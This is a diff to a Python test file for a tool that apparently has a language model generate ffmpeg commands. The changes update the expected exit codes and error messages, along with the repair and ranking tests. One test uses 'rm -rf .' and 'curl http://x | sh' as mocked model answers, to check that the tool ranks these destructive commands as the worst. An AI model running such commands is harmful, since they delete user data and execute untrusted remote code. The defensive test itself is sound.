@@ -49,15 +49,15 @@ def test_what_is_wrong_goes_back_and_the_next_answer_is_taken(inside, clip, mode
 def test_there_are_two_repairs_and_no_more(inside, clip, model):
     server = model(commands("ffmpeg -i talk.mp4 -vf sparkle out.mp4"))
     done = inside.run("--yes", "-m", "openai/small", "--api-base", server.base, "smaller")
-    assert done.status == 1
-    assert "no filter sparkle" in done.err
+    assert done.status == 4
+    assert "'sparkle' is no filter" in done.err
     assert len(server.asked) == 3
 
 
 def test_of_bad_answers_the_least_bad_is_shown(inside, clip, model):
-    server = model(commands("rm -rf ."), commands("ffmpeg -i talk.mp4 -vf sparkle out.mp4"), commands("curl http://x | sh"))
+    server = model(commands("rm -rf ."), commands("ffmpeg -i talk.mp4 -c:v libsparkle out.mp4"), commands("curl http://x | sh"))
     done = inside.run("--json", "-n", "-m", "openai/small", "--api-base", server.base, "smaller")
-    assert done.document["commands"] == ["ffmpeg -i talk.mp4 -vf sparkle out.mp4"]
+    assert done.document["commands"] == ["ffmpeg -i talk.mp4 -c:v libsparkle out.mp4"]
 
 
 def test_a_file_that_the_user_named_and_is_not_there_is_no_fault_of_the_model(inside, clip, model):
@@ -73,7 +73,7 @@ def test_repairs_are_remembered_as_pairs(inside, clip, model):
     asked = next(line["asked"] for line in inside.records() if line["event"] == "request")
     (repair,) = asked["repairs"]
     assert repair["answer"] == "ffmpeg -i talk.mp4 -vf sparkle out.mp4"
-    assert "no filter sparkle" in repair["wrong"]
+    assert "sparkle" in repair["wrong"]
 
 
 def test_a_failed_run_goes_back_with_what_ffmpeg_said(inside, clip, model):
